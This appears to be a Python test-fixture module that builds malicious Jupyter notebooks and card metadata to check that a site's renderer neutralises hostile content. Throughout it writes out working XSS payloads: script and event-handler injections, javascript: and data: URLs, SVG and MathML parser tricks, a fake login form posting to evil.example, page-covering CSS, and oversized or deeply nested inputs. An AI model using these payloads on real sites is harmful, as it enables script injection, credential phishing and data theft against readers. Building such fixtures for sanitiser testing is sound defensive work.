"""What somebody might hand in who wants readers' browsers: texts, pictures, notebooks, names."""

from __future__ import annotations

import base64
import json

# What any script of theirs would do: leave a mark, speak up, go elsewhere, tell somebody.
ACT = "window.owned=1;alert(1);fetch('https://evil.example/t');location='https://evil.example/'"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'width="9" height="9" onload="{ACT}"><script>{ACT}</script><a xlink:href="javascript:{ACT}">'
    f"<text>t</text></a><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
    f'<iframe src="javascript:{ACT}"/></body></foreignObject>'
    f'<animate attributeName="x" dur="1s" onbegin="{ACT}"/>'
    '<image xlink:href="https://evil.example/x.png"/><use href="https://evil.example/x.svg#a"/>'
    "</svg>"
)
COVER = "position:fixed;inset:0;z-index:99999;background:red;width:9999px;height:9999px"
PAGE = f"<script>{ACT}</script>"
# One line, since some of the texts have only one.
HTML = (
    f"\"'>--></title></textarea></style></script></article></main></body></html>{PAGE}"
    f'<img src=x onerror="{ACT}"><img src="https://evil.example/p.png"><body onload="{ACT}">'
    f'<iframe srcdoc="{PAGE}"></iframe><iframe src="https://evil.example/"></iframe>'
    f'<object data="https://evil.example/o"></object><embed src="https://evil.example/e">'
    f'<base href="https://evil.example/"><meta http-equiv="refresh" content="0;https://evil.example/">'
    '<link rel="stylesheet" href="https://evil.example/s.css">'
    f"<style>*{{{COVER}}} header{{display:none}} @import 'https://evil.example/i.css';</style>"
    f'<div style="{COVER}" class="masthead" id="main">over</div><dialog open>over</dialog>'
    f'<form action="https://evil.example/f"><input autofocus onfocus="{ACT}" name="password">'
    f'<button formaction="javascript:{ACT}">Log in</button></form><details open ontoggle="{ACT}">'
    f'<video src=x onerror="{ACT}"></video><a href="javascript:{ACT}">j</a>'
    f'<a href=" java&#10;script:{ACT}">j</a><a href="data:text/html,{PAGE}">d</a>'
    f'<a href="//evil.example/" target="_top">r</a><a href="/etc/passwd">p</a>'
    f'<math><maction actiontype="statusline#{ACT}" xlink:href="javascript:{ACT}">m</maction></math>'
    f'<noscript><p title="</noscript><img src=x onerror={ACT}>"></p></noscript>'
    f'<svg></p><style><a id="</style><img src=x onerror={ACT}>"></style></svg>'
    f"<template><script>{ACT}</script></template><math><mtext><table><mglyph><style><img src=x "
    f'onerror="{ACT}"></style></mglyph></table></mtext></math>{SVG}'
)
TEXT = f"evil \u202e\u2066\u200f end {{{{7*7}}}} {{% raw %}} __proto__ constructor {HTML}"
DATA_SVG = f"data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}"
TEX = (
    f"$\\href{{javascript:{ACT}}}{{x}}$ $\\text{{{PAGE}}}$ $\\style{{{COVER}}}{{x}}$ "
    f"$\\unicode{{<img src=x onerror={ACT}>}}$ $\\class{{masthead}}{{x}} \\cssId{{main}}{{x}}$ "
    f"$\\includegraphics{{https://evil.example/x.png}}$ ${'{' * 3000}$ "
    + ("$" + r"\frac{1}" * 400 + "x$ ")
    + ("$" + "x_{" * 300 + "}" * 300 + "$ ")
    + r"$\rule{9999px}{9999px} \hspace{99999px}x$"
)
MARKDOWN = (
    f"{TEXT}\n\n{TEX}\n\n[link](javascript:{ACT}) [link](<data:text/html,{PAGE}>) "
    f"[link]( java\tscript:{ACT}) [link](//evil.example/) ![p]({DATA_SVG}) ![p](javascript:{ACT}) "
    f"![p](https://evil.example/p.png) <javascript:{ACT}> [ref] [r]: javascript:{ACT}\n\n"
    f"[ref]: javascript:{ACT}\n\n```html\n{HTML}\n```\n\n```{{eval}}\n{HTML}\n```\n\n"
    f"# {'w' * 3000}\n\n## main\n\n## search\n\n"
    f"| a | {HTML.replace('|', '')} |\n|---|---|\n| {'w' * 3000} | b |\n\n"
    f"![a](attachment:a.svg)\n\n{'- ' * 300}deep\n"  # what follows on so much is not read
)
MIME = {
    "text/html": [
        HTML,
        "<div>" * 3000 + "deep" + "</div>" * 3000,
        f"<p>{'w' * 5000}</p>",
        "<b>x</b>" * 100_000,
    ],
    "image/svg+xml": [SVG],
    "image/png": [base64.b64encode(SVG.encode()).decode(), HTML],
    "text/markdown": [MARKDOWN],
    "text/latex": [TEX, f"$$\\text{{{HTML}}}$$"],
    "text/plain": [
        HTML,
        "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07 \x1b[31m" + "w" * 400_000,
    ],
    "application/javascript": [ACT],
    "application/vnd.jupyter.widget-view+json": [{"model_id": HTML, "version_major": 2}],
    f"text/html; {HTML}": [HTML],
}


def notebook() -> bytes:
    """An executed notebook with something bad in every place of it."""
    outputs = [
        {
            "output_type": "display_data",
            "data": {mime: value},
            "metadata": {"alt": HTML, mime: {"alt": HTML, "width": COVER, "height": 4000}},
        }
        for mime, values in MIME.items()
        for value in values
    ]
    outputs.append({"output_type": "stream", "name": HTML, "text": TEXT + "x" * 3_000_000})
    outputs.append({"output_type": "stream", "name": "stderr", "text": HTML})
    outputs.append({"output_type": "error", "ename": HTML, "evalue": HTML, "traceback": [HTML]})
    attachments = {f"{HTML}.svg": {"image/svg+xml": SVG}, "a.svg": {"image/svg+xml": SVG}}
    cells = [
        {"cell_type": "markdown", "id": "a", "source": f"# Evil {TEXT}\n\n{HTML}"},
        {
            "cell_type": "markdown",
            "id": HTML,
            "source": MARKDOWN,
            "attachments": attachments,
            "metadata": {"tags": [HTML]},
        },
        {
            "cell_type": "code",
            "id": "main",
            "execution_count": HTML,
            "source": f"%%html\n{HTML}\n{MARKDOWN}",
            "outputs": outputs,
            "metadata": {"jupyter": {"source_hidden": True}},
        },
        {"cell_type": "markdown", "id": "deep", "source": f"{'> ' * 300}deep"},
        {"cell_type": "raw", "id": "r", "metadata": {"format": "text/html"}, "source": HTML},
    ]
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"state": HTML}}}}
    metadata = {"widgets": widgets, "title": HTML, "kernelspec": {"language": HTML}}
    content = {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(content).encode()


def card() -> dict[str, object]:
    """The front matter of a card, with something bad in every text of it."""
    return {
        "title": TEXT,
        "paper": {"arxiv": f'1312.6114" onmouseover="{ACT}', "authors": [TEXT, HTML], "year": 2013},
        "claims": [
            {
                "id": f"claim {HTML}",
                "dataset": f"digits {HTML}",
                "metric": "elbo-nats",
                "paper": {"value": 88.5, "where": TEXT},
                "accept": "<= 90.0",
                "recipe": "digits",
            }
        ],
        "deviations": [TEXT, MARKDOWN],
        "acknowledgements": [
            {"what": TEXT, "source": f"javascript:{ACT}", "licence": HTML, "files": [HTML]},
            {"what": "w", "source": f'https://x/" onclick="{ACT}', "licence": "MIT", "files": []},
        ],
        "ai_assistance": TEXT,
    }
